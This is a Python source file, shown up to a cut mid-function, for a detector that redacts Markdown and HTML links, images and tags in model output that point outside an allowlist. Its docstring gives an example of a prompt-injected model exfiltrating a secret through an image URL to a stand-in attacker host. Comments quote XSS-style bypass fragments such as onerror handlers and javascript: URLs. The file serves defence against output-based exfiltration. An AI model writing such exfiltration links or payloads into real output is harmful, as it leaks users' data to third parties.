"""Links and images in model output that point outside a domain allowlist (OWASP LLM05:2025 / LLM10:2026).

    detector: unsafe_links
    direction: response
    action: redact
    params:
      allowed_domains: [example.com, "*.example.com"]

A prompt-injected model can exfiltrate data by writing `![x](https://attacker.example/?q=<secret>)`: the
client renders the image and fetches the URL without a click. This detector finds, without ever fetching
anything, every construct a Markdown or HTML renderer could turn into a request or a link:

* Markdown images `![alt](url "title")`, links `[text](url)`, reference definitions `[id]: url` (which
  `![alt][id]` images use) and autolinks `<https://...>`;
* HTML tags with a URL attribute (`src`, `href`, `srcset`, `poster`, `action`, `data`, ...), an event
  handler (`on...=`) or a style that loads something (`url(...)`), and tags that are never safe (`script`,
  `style`, `base`, `meta`, `object`, `embed`, ...), in any case and any quoting;
* bare URLs (`https://...`, `www....`) when `bare_urls: true`.

A target is safe when its scheme is listed in `schemes` and its host is allowed (exact host, or a subdomain of
a `*.suffix` entry), or when it is relative and `allow_relative` is set. Hosts are parsed the way browsers do
(WHATWG: userinfo, backslashes, percent-encoded and IDNA hosts, numeric IPv4, ports, trailing dots, case) and
also the way RFC 3986 parsers do: a URL is safe only if every reading gives an allowed host, and one whose
host cannot be parsed is unsafe. HTML character references and Markdown backslash escapes are decoded first.

Each finding carries a replacement that neutralises it and keeps the readable text: an image becomes
`[image removed: alt]`, a link its text, a reference definition nothing, an autolink or bare URL
`[link removed]`, an HTML tag nothing (`script`, `style`, `iframe`, `object` blocks with their content up to
the closing tag, `<a href=...>text</a>` its text). Labels: `unsafe_image`, `unsafe_link`, `unsafe_html`,
`unsafe_url`.

Everything is bounded (URL 2048 characters, link text/alt/title 512, tag 4096, script block 8192), so the
streaming hold-back is too. A construct longer than its bound is neutralised by removing its opening
characters. Constructs inside code spans and blocks are treated like any others.

Redaction must not create what it removes: a replacement never joins the text around it into a new link or tag
(see `_separate`), and a destination or tag that a replacement inside it could turn unsafe is removed itself.
"""

from __future__ import annotations

import html
import ipaddress
from bisect import bisect_left
from dataclasses import dataclass
from urllib.parse import unquote_to_bytes

from pydantic import BaseModel, ConfigDict, Field, field_validator, model_validator

from extproc.detectors import register
from extproc.detectors.base import Detector
from extproc.detectors.patterns import compile_re2
from extproc.model import Finding
from extproc.redact import Span, apply_spans, merge_spans

URL_MAX = 2048  # longest URL considered; a longer one is unsafe whatever its host
TEXT_MAX = 512  # link text, image alt, reference label, `<a>` content
TAG_MAX = 4096  # one HTML tag, `<` to `>`
CONTAINER_MAX = 8192  # `<script ...>...</script>` and the like, as a whole
TAIL_MAX = 3072  # `](` or `]:` through the end of destination, title and `)`

_NEVER_LISTED = frozenset({"javascript", "vbscript", "data"})
_SPECIAL_SCHEMES = frozenset({"http", "https", "ftp", "ws", "wss", "file"})


# --------------------------------------------------------------------------------------------------------
# Regular expressions built together with the language of all their prefixes: `full` matches a construct,
# `pre` matches every prefix of one (the empty string and the construct itself included). The prefix form
# tells the streaming hold-back exactly whether the text at the end could still grow into a construct.


@dataclass(frozen=True, slots=True)
class _Re:
    full: str
    pre: str


def _atom(char_class: str) -> _Re:
    return _Re(char_class, f"(?:{char_class})?")


def _lit(text: str) -> _Re:
    return _seq(*(_atom(_escape(char)) for char in text))


def _escape(char: str) -> str:
    return f"\\x{{{ord(char):x}}}"


def _seq(*parts: _Re) -> _Re:
    if len(parts) == 1:
        return parts[0]
    pre = "|".join("".join(p.full for p in parts[:i]) + part.pre for i, part in enumerate(parts))
    return _Re("".join(p.full for p in parts), f"(?:{pre})")


def _alt(*parts: _Re) -> _Re:
    return _Re("(?:" + "|".join(p.full for p in parts) + ")", "(?:" + "|".join(p.pre for p in parts) + ")")


def _star(part: _Re) -> _Re:
    return _Re(f"(?:{part.full})*", f"(?:{part.full})*{part.pre}")


def _opt(part: _Re) -> _Re:
    return _Re(f"(?:{part.full})?", part.pre)


def _plus(part: _Re) -> _Re:
    return _seq(part, _star(part))


def _group(name: str, part: _Re) -> _Re:
    """Capture `part` in the full form (the prefix form has no groups)."""
    return _Re(f"(?P<{name}>{part.full})", part.pre)


# Markdown (CommonMark): `](` dest title `)` and `]:` dest title end-of-line.
_SP = _atom(r"[ \t]")
_NL = _lit("\n")
_WS = _seq(_star(_SP), _opt(_seq(_NL, _star(_SP))))  # spaces, at most one line ending
_WS1 = _alt(_seq(_plus(_SP), _opt(_seq(_NL, _star(_SP)))), _seq(_NL, _star(_SP)))  # at least one
_DEST_CHAR = _alt(_atom(r"[^\s()\\\x00-\x1f\x7f]"), _seq(_lit("\\"), _atom(r"[^\s]")))


def _parens(inner: _Re) -> _Re:
    return _seq(_lit("("), inner, _lit(")"))


_RAW0 = _star(_DEST_CHAR)
_RAW1 = _star(_alt(_DEST_CHAR, _parens(_RAW0)))
_RAW2 = _star(_alt(_DEST_CHAR, _parens(_RAW1)))
_RAW_ITEM = _alt(_DEST_CHAR, _parens(_RAW2))  # balanced parentheses, three levels deep
_RAW = _star(_RAW_ITEM)
_POINTY = _seq(_lit("<"), _star(_alt(_atom(r"[^<>\n\\]"), _seq(_lit("\\"), _atom(r"[^\n]")))), _lit(">"))


def _quoted(open_: str, close: str) -> _Re:
    inner = _atom(f"[^{_escape(open_)}{_escape(close)}\\\\]")
    return _seq(_lit(open_), _star(_alt(inner, _seq(_lit("\\"), _atom(r"[\s\S]")))), _lit(close))


_TITLE = _alt(_quoted('"', '"'), _quoted("'", "'"), _quoted("(", ")"))
_INLINE = _seq(_lit("]("), _WS, _alt(_group("pointy", _POINTY), _group("raw", _RAW)),
               _opt(_seq(_WS1, _TITLE)), _WS, _lit(")"))
_DEF = _seq(_lit("]:"), _WS, _alt(_group("pointy", _POINTY), _group("raw", _seq(_RAW_ITEM, _RAW))),
            _opt(_seq(_WS1, _TITLE)), _star(_SP), _NL)
_AUTOLINK = _seq(_lit("<"), _atom("[A-Za-z]"), _star(_atom(r"[A-Za-z0-9+.\-]")), _lit(":"),
                 _star(_atom(r"[^\s<>\x00-\x1f\x7f]")), _lit(">"))
_INLINE_RE = compile_re2(_INLINE.full)
_INLINE_PRE = compile_re2(_INLINE.pre)
_DEF_RE = compile_re2(_DEF.full)
_DEF_PRE = compile_re2(_DEF.pre)
_AUTOLINK_PRE = compile_re2(_AUTOLINK.pre)
_HEAD_RE = compile_re2(r"\]\(" + _WS.full + "(" + _RAW.full + ")")  # what a lenient renderer would link
_DEF_HEAD_RE = compile_re2(r"\]:" + _WS.full + "(" + _RAW.full + ")")

_TAIL_START = compile_re2(r"\][(:]")
_AUTOLINK_START = compile_re2(r"<[A-Za-z][A-Za-z0-9+.\-]*:")
_TAG_START = compile_re2(r"<[A-Za-z]")
_TAG_NAME = compile_re2(r"[^\s/>]*")
_ATTR = compile_re2(r"([^\s/>=][^\s/>=]*|=[^\s/>=]*)(?:\s*=\s*(?:\"([^\"]*)\"|'([^']*)'|([^\s>]*)))?")
_SCHEME = compile_re2(r"([A-Za-z][A-Za-z0-9+.\-]*):")
_TAG_LIKE = compile_re2(r"<[^<>]*>")
_IPV6_LITERAL = compile_re2(r"(?://|@)\[[0-9A-Fa-f:.]+\]")
_MD_ESCAPE = compile_re2(r"\\([!-/:-@\[-`{-~])")
_CSS_URL = compile_re2(
    r"(?i)(?:url|image|image-set|src|cross-fade)\(\s*(?:\"([^\"]*)\"|'([^']*)'|([^)\"'\s]*))")
_CSS_STRING = compile_re2(r"\"([^\"]*)\"|'([^']*)'")
_CSS_ALWAYS = ("expression(", "@import", "behavior", "-moz-binding", "javascript:", "\\")

# Tags a renderer must never keep, tags removed with their content, and attributes holding URLs.
_ALWAYS_UNSAFE_TAGS = frozenset({"script", "style", "base", "meta", "object", "embed", "applet", "frameset",
                                 "animate", "set", "handler", "listener", "portal"})
_CONTAINERS = frozenset({"script", "style", "iframe", "object", "applet"})
_URL_ATTRS = frozenset({"src", "href", "xlink:href", "srcset", "imagesrcset", "action", "formaction", "data",
                        "poster", "background", "lowsrc", "dynsrc", "longdesc", "cite", "codebase",
                        "manifest", "icon", "profile", "archive", "classid", "ping", "usemap", "itemtype",
                        "content"})
_LIST_ATTRS = frozenset({"srcset", "imagesrcset"})  # comma-separated `url descriptor`
_SPACE_LIST_ATTRS = frozenset({"ping", "archive"})
_NAVIGATION_ONLY = frozenset({"ping", "action", "formaction", "cite", "longdesc", "usemap", "itemtype"})
_LINK_TAGS = frozenset({"a", "area"})
# Known element names: over-long tags of these are removed (other names only if they carry attributes).
_RESOURCE_TAGS = frozenset({"a", "area", "audio", "body", "button", "embed", "form", "frame", "iframe",
                            "image", "img", "input", "link", "object", "picture", "source", "svg", "table",
                            "td", "th", "track", "use", "video", "math", "feimage", "script", "style", "base",
                            "meta"})

_FORBIDDEN_HOST = frozenset("\x00\t\n\r #%/:<>?@[\\]^|\x7f" + "".join(map(chr, range(0x20))))
_IDNA_DEVIATIONS = frozenset("\u00df\u03c2\u200c\u200d")  # IDNA 2003 and browsers' UTS 46 disagree
_TRIM_TRAILING = ".,:;!?*_~"


class UnsafeLinksParams(BaseModel):
    model_config = ConfigDict(extra="forbid")
    allowed_domains: list[str] = Field(
        default_factory=list,
        description="hosts links and images may point to: `example.com` (exactly that host) or "
        "`*.example.com` (any subdomain, not the apex); IDNA and IP addresses allowed; ports are not part of "
        "the match")
    allow_relative: bool = Field(True, description="relative URLs (no scheme, no host) are safe")
    images_only: bool = Field(
        False, description="only what renders without a click (images, HTML resources, scripts, reference "
        "definitions); leave links alone")
    bare_urls: bool = Field(
        False, description="also neutralise bare `https://...` and `www....` URLs in text")
    schemes: list[str] = Field(
        default_factory=lambda: ["http", "https"],
        description="schemes a safe URL may use; any other (javascript:, data:, ...) is always unsafe")

    @field_validator("allowed_domains")
    @classmethod
    def _valid_domains(cls, values: list[str]) -> list[str]:
        return [_normalize_allowed(value) for value in values]

    @field_validator("schemes")
    @classmethod
    def _valid_schemes(cls, values: list[str]) -> list[str]:
        out = []
        for value in values:
            scheme = value.strip().lower()
            if not _SCHEME.fullmatch(scheme + ":") or len(scheme) > 32:
                raise ValueError(f"scheme {value!r} is not a URL scheme (letters, digits, `+.-`)")
            if scheme in _NEVER_LISTED:
                raise ValueError(f"scheme {scheme!r} can never be safe in model output")
            out.append(scheme)
        return out

    @model_validator(mode="after")
    def _consistent(self) -> UnsafeLinksParams:
        if self.images_only and self.bare_urls:
            raise ValueError("bare_urls has no effect with images_only: true (bare URLs are links)")
        return self


def _normalize_allowed(value: str) -> str:
    entry = value.strip().lower()
    wildcard = entry.startswith("*.")
    host = entry[2:] if wildcard else entry
    if not host or "*" in host or any(c in host for c in "/@ \t?#\\"):
        raise ValueError(f"allowed domain {value!r} must be a host name (`example.com`) or `*.example.com`")
    if ":" in host and not host.startswith("["):
        try:
            host = f"[{ipaddress.IPv6Address(host).compressed}]"
        except ValueError:
            raise ValueError(f"allowed domain {value!r} must not carry a port or scheme") from None
    normalized = _normalize_host(host)
    if normalized is None:
        raise ValueError(f"allowed domain {value!r} is not a valid host name")
    if wildcard and (normalized.startswith("[") or _is_ipv4(normalized)):
        raise ValueError(f"allowed domain {value!r}: wildcards apply to domain names, not IP addresses")
    return ("*." if wildcard else "") + normalized


def _is_ipv4(host: str) -> bool:
    try:
        ipaddress.IPv4Address(host)
    except ValueError:
        return False
    return True


def _normalize_host(host: str) -> str | None:
    """The host as browsers resolve it (lower-case ASCII, IDNA, IPv4 canonical), or None if it cannot be."""
    if not host:
        return None
    if host.startswith("["):
        if not host.endswith("]"):
            return None
        try:
            return f"[{ipaddress.IPv6Address(host[1:-1]).compressed}]"
        except ValueError:
            return None
    try:
        decoded = unquote_to_bytes(host).decode("utf-8")
    except UnicodeDecodeError:
        return None
    if any(char in _FORBIDDEN_HOST or char in _IDNA_DEVIATIONS for char in decoded):
        return None
    try:
        ascii_host = decoded.lower().encode("idna").decode("ascii").lower()
    except (UnicodeError, ValueError):
        return None
    ascii_host = ascii_host.removesuffix(".")
    labels = ascii_host.split(".")
    if not ascii_host or "" in labels or any(c in _FORBIDDEN_HOST for c in ascii_host):
        return None
    last = labels[-1]
    if last.isdigit() or (last[:2] == "0x" and all(c in "0123456789abcdef" for c in last[2:])):
        return _ipv4(labels)
    return ascii_host


def _ipv4(labels: list[str]) -> str | None:
    """WHATWG IPv4 parser: 1-4 parts, each decimal, octal (leading 0) or hex (0x)."""
    if len(labels) > 4:
        return None
    numbers = []
    for label in labels:
        try:
            if label[:2] == "0x":
                numbers.append(int(label[2:] or "0", 16))
            elif len(label) > 1 and label[0] == "0":
                numbers.append(int(label, 8))
            else:
                numbers.append(int(label, 10))
        except ValueError:
            return None
    if any(n > 255 for n in numbers[:-1]) or numbers[-1] >= 256 ** (5 - len(numbers)):
        return None
    value = numbers[-1]
    for index, number in enumerate(numbers[:-1]):
        value += number * 256 ** (3 - index)
    return str(ipaddress.IPv4Address(value))


@dataclass(slots=True)
class _Hit:
    start: int
    end: int
    label: str
    kind: str  # image | link | def | tail | autolink | html | pair | bare
    inner: tuple[int, int] | None = None  # readable text kept by the replacement
    replacement: str = ""


# Runs of one character class: tag names, spaces, unquoted values, URLs.
_RUN_CLASSES = {
    "name": compile_re2(r"[^\s/>]*"),  # HTML tag name
    "ws": compile_re2(r"\s*"),
    "unquoted": compile_re2(r"[^\s>]*"),  # unquoted attribute value
    "url": compile_re2(r"[^\s<>\"'`\[\]\x00-\x1f\x7f]*"),  # bare URL (GitHub autolink characters, roughly)
    "autolink": compile_re2(r"[^\s<>\x00-\x1f\x7f]*"),
}
_SPACES = frozenset(" \t\n\f\r")
_CONTROLS = frozenset(map(chr, [*range(0x20), 0x7F]))
_RUN_TEST = {
    "name": lambda c: c not in _SPACES and c not in "/>",
    "ws": _SPACES.__contains__,
    "unquoted": lambda c: c not in _SPACES and c != ">",
    "url": lambda c: c not in _SPACES and c not in "<>\"'`[]" and c not in _CONTROLS,
    "autolink": lambda c: c not in _SPACES and c not in "<>" and c not in _CONTROLS,
}


class _Index:
    """Position indexes over one text, built on first use, shared by the passes of one `find` or `hold`: every
    construct is evaluated from each of its possible starts without rescanning the text after it."""

    __slots__ = ("_chars", "_closers", "_pairs", "_runs", "_tag_memo", "angle_memo", "n", "text")

    def __init__(self, text: str) -> None:
        self.text = text
        self.n = len(text)
        self._chars: dict[str, list[int]] = {}
        self._runs: dict[str, tuple[int, int]] = {}  # the last run found of each class
        self._tag_memo: dict[int, int | None] = {}
        self._pairs: dict[int, int] | None = None
        self._closers: dict[str, list[int]] = {}
        self.angle_memo: dict[int, bool] = {}  # hold: is the `<` at this position open

    def positions(self, char: str) -> list[int]:
        """Every index holding `char`, ascending."""
        positions = self._chars.get(char)
        if positions is None:
            positions, text, at = [], self.text, self.text.find(char)
            while at >= 0:
                positions.append(at)
                at = text.find(char, at + 1)
            self._chars[char] = positions
        return positions

    def next_char(self, char: str, pos: int) -> int:
        """First index >= pos holding `char`, or len(text)."""
        positions = self.positions(char)
        index = bisect_left(positions, pos)
        return positions[index] if index < len(positions) else self.n

    def run_end(self, kind: str, pos: int) -> int:
        """End of the run of `kind` characters starting at `pos` (`pos` itself if there is none).

        Starts inside the last run found share its end, so many starts inside one long run cost one scan."""
        start, end = self._runs.get(kind, (0, -1))
        if start <= pos < end:
            return end
        text, inside, found = self.text, _RUN_TEST[kind], pos
        limit = min(self.n, pos + 16)
        while found < limit and inside(text[found]):
            found += 1
        if found < limit or found == self.n:
            return found  # short runs (most of them) without a regular expression call
        pattern, size = _RUN_CLASSES[kind], 64
        while True:
            found = pos + len(pattern.match(self.text[pos : pos + size]).group())
            if found < pos + size or found >= self.n:
                break
            size *= 4
        if found > pos:
            self._runs[kind] = (pos, found)
        return found

    def pairs(self) -> dict[int, int]:
        """Each `]` to its `[` and each `[` to its `]` (nearest balanced pair)."""
        if self._pairs is None:
            self._pairs, stack, text = {}, [], self.text
            for position in sorted(self.positions("[") + self.positions("]")):
                if text[position] == "[":
                    stack.append(position)
                elif stack:
                    opener = stack.pop()
                    self._pairs[position] = opener
                    self._pairs[opener] = position
        return self._pairs

    def tag_end(self, s: int) -> int | None:
        """Index of the `>` closing the tag at `s` (`<` and a letter), or None if it is still open at the end.

        The HTML tokenizer: the name runs to a space, `/` or `>`; after it a quote opens a value only
        right after `=` (and spaces), and `>` ends the tag anywhere outside a value. What follows an `=`
        seen outside a value is the same whichever tag start led there, so it is worked out once."""
        text, n, memo = self.text, self.n, self._tag_memo
        pos = self.run_end("name", s + 1)
        pending: list[int] = []
        result: int | None = None
        while True:
            close, eq = self.next_char(">", pos), self.next_char("=", pos)
            if close < eq:
                result = close
                break
            if eq >= n:
                break
            if eq in memo:
                result = memo[eq]
                break
            pending.append(eq)
            value = self.run_end("ws", eq + 1)
            if value >= n:
                break
            char = text[value]
            if char == ">":
                result = value
                break
            if char in "\"'":
                quote = self.next_char(char, value + 1)
                if quote >= n:
                    break
                pos = quote + 1
                continue
            after = self.run_end("unquoted", value)
            if after >= n:
                break
            if text[after] == ">":
                result = after
                break
            pos = after
        for eq in pending:
            memo[eq] = result
        return result

    def closing(self, name: str, after: int, bound: int) -> tuple[int, int] | None:
        """(start, end) of the first `</name` closing tag at or after `after`, if it ends by `bound`."""
        starts = self._closers.get(name)
        if starts is None:
            starts = self._closers[name] = [m.start() for m in _CLOSE_RE[name].finditer(self.text)]
        index = bisect_left(starts, after)
        if index == len(starts) or starts[index] >= bound:
            return None
        close_end = self.text.find(">", starts[index], bound)
        return (starts[index], close_end + 1) if close_end >= 0 else None


def _window(text: str, start: int, pre, limit: int) -> str:  # type: ignore[no-untyped-def]
    """`text[start:]` cut to the shortest length that decides a construct: nothing in `pre`'s language (the
    prefixes of the construct) reaches past its end, or it is `limit` long."""
    size = 128
    while True:
        window = text[start : start + size]
        if size >= limit or len(window) < size or not pre.fullmatch(window):
            return window
        size = min(size * 4, limit)


@register
class UnsafeLinksDetector(Detector):
    name = "unsafe_links"
    owasp = ("LLM05:2025", "LLM10:2026")
    normalized = False  # hosts must be judged as the browser will see them
    Params = UnsafeLinksParams
    max_span = CONTAINER_MAX

    def __init__(self, params: UnsafeLinksParams | None = None) -> None:  # type: ignore[override]
        super().__init__(params)
        p: UnsafeLinksParams = self.params  # type: ignore[assignment]
        self._exact = frozenset(d for d in p.allowed_domains if not d.startswith("*."))
        self._suffixes = tuple(d[1:] for d in p.allowed_domains if d.startswith("*."))
        self._schemes = frozenset(p.schemes)
        self._allow_relative = p.allow_relative
        self._images_only = p.images_only
        self._bare = p.bare_urls
        bare_schemes = sorted(self._schemes | {"http", "https"}, key=len, reverse=True)
        self._bare_anchors = tuple([f"{s}://" for s in bare_schemes] + ["www."])
        self._bare_re = compile_re2(
            "(?i)(?:" + "|".join("".join(_escape(c) for c in a) for a in self._bare_anchors) + ")")
        self._longest_anchor = max(map(len, self._bare_anchors))
        self._cache: dict[str, bool] = {}

    # ---------------------------------------------------------------------------------------------- find

    def find(self, text: str) -> list[Finding]:
        index = _Index(text)
        hits = self._tags(index) + self._markdown(index) + self._autolinks(index)
        if self._bare:
            hits += self._bare_urls(index)
        # A `<` right before a finding would meet its replacement: `<[t](..) onerror=..>` -> `<t onerror=..>`.
        starts = {h.start for h in hits}
        for position in reversed(index.positions("<")):
            if position + 1 in starts:
                hits.append(_Hit(position, position + 1, "unsafe_html", "html"))
                starts.add(position)
        if not hits:
            return []
        hits = list({(h.start, h.end, h.label): h for h in hits}.values())
        self._replacements(text, hits)
        self._separate(text, hits)
        hits.sort(key=lambda h: (h.start, -h.end))
        return [Finding(self.name, h.label, h.start, h.end, replacement=h.replacement) for h in hits]

    def _markdown(self, index: _Index) -> list[_Hit]:
        text, hits = index.text, []
        for match in _TAIL_START.finditer(text):
            m = match.start()
            if text[m + 1] == "(":
                window = _window(text, m, _INLINE_PRE, TAIL_MAX + 1)
                end = self._inline_tail(window, len(window) == TAIL_MAX + 1)
                kind = "inline"
            else:
                window = _window(text, m, _DEF_PRE, TAIL_MAX + 1)
                full = len(window) == TAIL_MAX + 1
                at_end = m + len(window) == index.n
                # a definition ends at a line end; the end of the text counts as one
                end = self._def_tail(window + "\n" if at_end and not full else window, full)
                kind = "def"
            if end is not None:
                hit = self._tail_hit(index, m, end, kind)
                if hit is not None:
                    hits.append(hit)
        return hits

    def _tail_hit(self, index: _Index, m: int, end: int, kind: str) -> _Hit | None:
        """The finding for an unsafe destination at `m` (`](` or `]:`), from its `[` (`![`) if near."""
        opener = index.pairs().get(m)
        if opener is None or m - opener - 1 > TEXT_MAX:
            return _Hit(m, m + end, "unsafe_link", "tail")
        if kind == "def":
            return _Hit(opener, m + end, "unsafe_link", "def")
        if opener > 0 and index.text[opener - 1] == "!":
            return _Hit(opener - 1, m + end, "unsafe_image", "image", (opener + 1, m))
        if not self._images_only:
            return _Hit(opener, m + end, "unsafe_link", "link", (opener + 1, m))
        return None
        return None

    def _inline_tail(self, window: str, full: bool) -> int | None:
        """End (from the `]`) of an unsafe inline destination, or None if it is safe or not one."""
        match = _INLINE_RE.match(window)
        if match and match.end() <= TAIL_MAX:
            dest, (start, end) = _destination(_INLINE_RE, match)
            if self._unsafe(dest, markdown=True) or self._dest_may_change(window, start, end):
                return match.end()
            return None
        # Not a destination CommonMark accepts (or longer than we parse): lenient renderers may still link the
        # URL that starts it, and one running past our bound is unsafe.
        head = _HEAD_RE.match(window)
        if full and head.end() >= len(window):
            return 2  # break it open
        return max(head.end(), 2) if self._head_unsafe(head.group(1)) else None

    def _def_tail(self, window: str, full: bool) -> int | None:
        match = _DEF_RE.match(window)
        if match and match.end() - 1 <= TAIL_MAX:
            dest, (start, end) = _destination(_DEF_RE, match)
            if self._unsafe(dest, markdown=True) or self._dest_may_change(window, start, end):
                return match.end() - 1
            return None
        # Not a definition as it stands (text after the destination, or longer than we parse), but removing a
        # tag after it would make it one: break it open when its destination is unsafe.
        head = _DEF_HEAD_RE.match(window)
        return 2 if (full and head.end() >= len(window)) or self._head_unsafe(head.group(1)) else None

    def _head_unsafe(self, head: str) -> bool:
        """A destination's first token: unsafe as it stands, without its `<`, or once a finding in it is
        replaced."""
        return self._unsafe(head, markdown=True) or (
            head.startswith("<") and self._unsafe(head[1:], markdown=True)) or _may_change(head)

    def _dest_may_change(self, window: str, start: int, end: int) -> bool:
        """Could replacing a finding inside this (safe) destination make it unsafe (`](ht[tp://evil](x))`)?
        A `<destination>` that is itself an HTML tag we remove counts too: what follows would become it."""
        if _may_change(window[start:end]):
            return True
        if start == 0 or window[start - 1] != "<":
            return False
        pointy = window[start - 1 : end + 1]
        return _Index(pointy).tag_end(0) != len(pointy) - 1 or self._tag_unsafe(pointy)[1]

    def _autolinks(self, index: _Index) -> list[_Hit]:
        if self._images_only:
            return []
        text, hits = index.text, []
        for match in _AUTOLINK_START.finditer(text):
            s = match.start()
            if not 2 <= match.end() - s - 2 <= 32:
                continue
            end = index.run_end("autolink", s + 1)
            if end - s - 1 > URL_MAX:
                hits.append(_Hit(s, s + 1, "unsafe_link", "autolink"))  # too long to be sure: drop its `<`
            elif end < index.n and text[end] == ">" and self._unsafe(text[s + 1 : end], markdown=False):
                hits.append(_Hit(s, end + 1, "unsafe_link", "autolink"))
        return hits

    def _tags(self, index: _Index) -> list[_Hit]:
        text, n, hits = index.text, index.n, []
        for match in _TAG_START.finditer(text):
            s = match.start()
            close = index.tag_end(s)
            if close is None or close + 1 - s > TAG_MAX:
                if n - s > TAG_MAX:  # does not close within bound: remove what we saw if it can matter
                    name = text[s + 1 : min(index.run_end("name", s + 1), s + 16)].lower()
                    if name in _RESOURCE_TAGS or text.find("=", s, s + TAG_MAX) >= 0:
                        hits.append(_Hit(s, s + TAG_MAX, "unsafe_html", "html"))
                continue
            g = close + 1
            name, unsafe = self._tag_unsafe(text[s:g])
            if not unsafe and _may_change(text[s + 1 : g]):
                # A finding inside could change an attribute when replaced (`<a href=[t](..)javascript:>`), or
                # run past the `>` and let the tag swallow the text after it (`<img src=ok <script>..</script>
                # onerror=...>`).
                hits.append(_Hit(s, g, "unsafe_html", "html"))
                continue
            if not unsafe:
                continue
            end, inner = g, None
            if name in _CONTAINERS:
                closing = index.closing(name, g, s + CONTAINER_MAX)
                if closing is not None:
                    end = closing[1]
            elif name == "a":
                closing = index.closing(name, g, g + TEXT_MAX)
                if closing is not None:
                    end, inner = closing[1], (g, closing[0])
            hits.append(_Hit(s, end, "unsafe_html", "pair" if inner else "html", inner))
        return hits

    def _tag_unsafe(self, tag: str) -> tuple[str, bool]:
        raw_name = _TAG_NAME.match(tag, 1).group()
        name = raw_name.lower()
        if name in _ALWAYS_UNSAFE_TAGS:
            return name, True
        body = tag[1 + len(raw_name) : -1]
        for attr in _ATTR.finditer(body):
            attr_name = attr.group(1).lower()
            value = next((v for v in attr.groups()[1:] if v is not None), "")
            if attr_name.startswith("on") and len(attr_name) > 2 or attr_name == "srcdoc":
                return name, True
            if attr_name == "style":
                if self._style_unsafe(value):
                    return name, True
                continue
            if attr_name not in _URL_ATTRS or (attr_name == "content" and name != "meta"):
                continue
            if self._images_only and (attr_name in _NAVIGATION_ONLY or (
                    attr_name in ("href", "xlink:href") and name in _LINK_TAGS)):
                continue
            # old Internet Explorer took backticks for quotes: read the value both ways
            for url in _attr_urls(attr_name, value) + _attr_urls(attr_name, value.strip("`")):
                if self._unsafe(url, markdown=False):
                    return name, True
        return name, False

    def _style_unsafe(self, value: str) -> bool:
        for style in {value, html.unescape(value)}:
            lowered = style.lower()
            if any(marker in lowered for marker in _CSS_ALWAYS):
                return True
            urls = [next(g for g in m.groups() if g is not None) for m in _CSS_URL.finditer(style)]
            if "image-set(" in lowered or "image(" in lowered:
                urls += [next(g for g in m.groups() if g is not None) for m in _CSS_STRING.finditer(style)]
            if any(self._unsafe(url, markdown=False) for url in urls):
                return True
        return False

    def _bare_urls(self, index: _Index) -> list[_Hit]:
        text, hits = index.text, []
        for match in self._bare_re.finditer(text):
            q = match.start()
            end = index.run_end("url", q)
            if end - q > URL_MAX:
                hits.append(_Hit(q, q + URL_MAX, "unsafe_url", "bare"))
                continue
            run = _trim_url(text[q:end])
            if len(run) <= match.end() - q:
                continue  # nothing after `https://` or `www.`
            url = ("http://" + run) if run[:4].lower() == "www." else run
            if self._unsafe(url, markdown=False):
                hits.append(_Hit(q, q + len(run), "unsafe_url", "bare"))
        return hits

    # ---------------------------------------------------------------------------------------- replacements

    def _replacements(self, text: str, hits: list[_Hit]) -> None:
        """Inner constructs first: a link's replacement keeps its text with the findings inside it applied."""
        by_start = sorted(hits, key=lambda h: h.start)
        starts = [h.start for h in by_start]
        for hit in sorted(hits, key=lambda h: h.end - h.start):
            if hit.kind in ("autolink", "bare"):
                hit.replacement = "[link removed]" if hit.end - hit.start > 1 else ""
                continue
            if hit.inner is None:
                continue
            start, end = hit.inner
            contained = [Span(h.start - start, h.end - start, h.replacement)
                         for h in by_start[bisect_left(starts, start) : bisect_left(starts, end)]
                         if h.end <= end and h is not hit]
            readable = apply_spans(text[start:end], merge_spans(contained))
            readable = _TAG_LIKE.sub("", readable).translate(_STRIP)
            if self._bare:
                spans = [Span(h.start, h.end, "link removed") for h in self._bare_urls(_Index(readable))]
                readable = apply_spans(readable, merge_spans(spans))
            if hit.kind == "image":
                alt = " ".join(readable.split())
                hit.replacement = f"[image removed: {alt}]" if alt else "[image removed]"
            else:  # after a `]`, a leading `(` or `:` would make a new link or definition
                hit.replacement = " " + readable if readable[:1] in ("(", ":") else readable

    @staticmethod
    def _separate(text: str, hits: list[_Hit]) -> None:
        """Redaction must not join what is left into a new construct: a replacement ending in `]` gets a
        space before a following `(`, `[` or `:` (a new link), and a removal becomes a space unless
        whitespace follows (`]` and `(`, `<` and a tag name, two halves of a URL must stay apart). Applied to
        the winner of each group of overlapping findings, as redaction merges them."""
        hits.sort(key=lambda h: (h.start, -h.end))
        index = 0
        while index < len(hits):
            winner, end = hits[index], hits[index].end
            index += 1
            while index < len(hits) and hits[index].start < end:
                end = max(end, hits[index].end)
                index += 1
            if winner.replacement.endswith("]") and end < len(text) and text[end] in "([:":
                winner.replacement += " "
            elif not winner.replacement and end < len(text) and text[end] not in _SPACES:
                winner.replacement = " "

    # ------------------------------------------------------------------------------------------ URL safety

    def _unsafe(self, url: str, markdown: bool) -> bool:
        """True if any reasonable reading of `url` leaves the allowlist (or cannot be parsed)."""
        key = ("m" if markdown else "h") + url
        cached = self._cache.get(key)
        if cached is not None:
            return cached
        readings = {url, html.unescape(url)}
        if markdown:
            unescaped = _MD_ESCAPE.sub(lambda m: m.group(1), url)
            readings |= {unescaped, html.unescape(unescaped)}
        result = any(self._reading_unsafe(reading) for reading in readings)
        if len(self._cache) > 4096:
            self._cache.clear()
        self._cache[key] = result
        return result

    def _reading_unsafe(self, url: str) -> bool:
        url = url.strip(_C0_AND_SPACE).replace("\t", "").replace("\n", "").replace("\r", "")
        if len(url) > URL_MAX:
            return True
        scheme_match = _SCHEME.match(url)
        if scheme_match:
            scheme = scheme_match.group(1).lower()
            if scheme not in self._schemes:
                return True
            return not self._authority_safe(scheme, url[scheme_match.end():])
        if url[:2] in ("//", "\\\\", "/\\", "\\/"):
            return not self._authority_safe("", url)
        return not self._allow_relative

    def _authority_safe(self, scheme: str, rest: str) -> bool:
        special = scheme in _SPECIAL_SCHEMES or scheme == ""
        if not rest.startswith("//"):
            # `http:host`: browsers find a host, RFC 3986 readers none, so unsafe; a listed scheme without an
            # authority (mailto:, tel:) has no host to check
            return not special
        authorities = [_until(rest[2:], "/?#")]  # RFC 3986: up to / ? # (a backslash is data)
        if special:  # WHATWG: any run of slashes and backslashes, then the host up to / \ ? #
            authorities.append(_until(rest.lstrip("/\\"), "/\\?#"))
        return all(self._authority_allowed(authority) for authority in authorities)

    def _authority_allowed(self, authority: str) -> bool:
